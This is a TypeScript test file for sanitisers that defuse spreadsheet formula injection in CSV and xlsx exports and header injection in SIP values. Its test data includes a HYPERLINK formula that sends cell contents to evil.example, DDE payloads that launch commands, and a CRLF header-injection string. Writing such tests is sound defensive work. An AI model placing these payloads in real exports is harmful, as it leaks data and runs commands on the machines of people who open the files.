import { test } from 'uvu';
import * as assert from 'uvu/assert';
import ExcelJS from 'exceljs';
import { csvRow, forCsv, forXlsx, looksLikeFormula, neutraliseCell } from '../src/spreadsheet/index.ts';
import { sipHeaderValue } from '../src/chime/index.ts';

const attacks = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '  =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=1+1',
];
const realValues = ['+85291234567', '-7', '+1 (212) 555-0147', '-3.5', '12', 'Yes', 'Dr. Smith', '2026-12-03', ''];

test('CSV: formula-like text gets a leading apostrophe; numbers and phone numbers stay exactly as written', () => {
  for (const attack of attacks) {
    assert.ok(looksLikeFormula(attack), attack);
    assert.is(neutraliseCell(attack), `'${attack}`, attack);
  }
  for (const value of realValues) assert.is(neutraliseCell(value), value, `real value ${JSON.stringify(value)}`);
  assert.is(neutraliseCell(-7), '-7', 'a negative number stays a number');
  assert.is(neutraliseCell(null), '');
  assert.is(neutraliseCell(true), 'true');
  assert.is(neutraliseCell(Number.NaN), '');
});

test('CSV fields are quoted per RFC 4180 after neutralising', () => {
  assert.is(forCsv('a,b'), '"a,b"');
  assert.is(forCsv('say "hi"'), '"say ""hi"""');
  assert.is(forCsv('=1+1,2'), `"'=1+1,2"`);
  assert.is(csvRow(['phone_number', '+85291234567', -7, '=cmd']), `phone_number,+85291234567,-7,'=cmd`);
});

test('xlsx through exceljs: every value reads back exactly, and nothing becomes a formula', async () => {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('report');
  const header = ['phone_number', '=HYPERLINK("http://evil.example","x")', 'answer'];
  const rows: unknown[][] = [
    ['+85291234567', '=1+1', -7],
    ['+1 (212) 555-0147', '@SUM(A1)', '-7'],
    ['tab\there', { formula: 'A1*2' }, new Date('2026-12-03T00:00:00Z')],
    ['bell\u0007and nul\u0000', '\uffff', true],
  ];
  sheet.addRow(header.map(forXlsx));
  for (const row of rows) sheet.addRow(row.map((value) => forXlsx(value as never)));
  const buffer = await workbook.xlsx.writeBuffer();

  const read = new ExcelJS.Workbook();
  await read.xlsx.load(buffer as ArrayBuffer);
  const back = read.getWorksheet('report')!;
  const cell = (row: number, column: number) => back.getRow(row).getCell(column);
  for (let r = 1; r <= 5; r++) {
    for (let c = 1; c <= 3; c++) assert.is.not(cell(r, c).type, ExcelJS.ValueType.Formula, `row ${r} column ${c} is not a formula`);
  }
  assert.is(cell(1, 2).value, header[1], 'header text kept, as text');
  assert.is(cell(2, 1).value, '+85291234567', 'no apostrophe on a phone number');
  assert.is(cell(2, 2).value, '=1+1');
  assert.is(cell(2, 3).value, -7, 'a negative number stays a number');
  assert.is(cell(3, 3).value, '-7', 'text -7 stays text -7');
  assert.is(cell(4, 2).value, '{"formula":"A1*2"}', 'an object becomes text, never a formula');
  assert.is(cell(5, 1).value, 'belland nul', 'XML-invalid characters are dropped so the file opens');
  assert.is(cell(5, 3).value, true);
});

test('SIP header values: no CR, LF, semicolon or invisible characters, bounded length', () => {
  assert.is(sipHeaderValue('billing\r\nX-Injected: yes'), 'billing X-Injected: yes');
  assert.is(sipHeaderValue('sales;transport=tcp'), 'sales transport=tcp');
  assert.is(sipHeaderValue('a\u202eb\u200bc\u0000d'), 'a b c d');
  assert.is(sipHeaderValue('  Customer   service  '), 'Customer service');
  assert.is(sipHeaderValue(undefined), '');
  assert.is(sipHeaderValue('+12125550147'), '+12125550147');
  const long = sipHeaderValue('x'.repeat(1000));
  assert.is(long.length, 256);
  assert.is(Array.from(sipHeaderValue('😀'.repeat(10), { maxLength: 3 })).length, 3, 'never cut inside a surrogate pair');
  assert.not.match(sipHeaderValue('\u0085next line\u2028sep'), /[\u0085\u2028]/);
});

test.run();
